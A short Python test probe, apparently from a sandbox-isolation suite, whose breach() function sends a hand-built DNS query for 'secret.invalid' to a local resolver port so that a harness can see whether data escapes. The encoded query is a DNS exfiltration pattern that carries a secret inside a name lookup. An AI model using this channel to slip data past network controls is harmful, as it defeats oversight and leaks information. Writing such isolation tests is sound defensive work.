"""Reach out or persist: asks a name server for a name that tells what it has learnt, from a connected socket.

breaches: process naive
"""

import socket

QUERY = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x07invalid\0\0\x01\0\x01"


def breach():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.connect(("127.0.0.1", WORLD["udp"]))
        resolver.send(QUERY)
    return False  # whether it arrived is seen outside
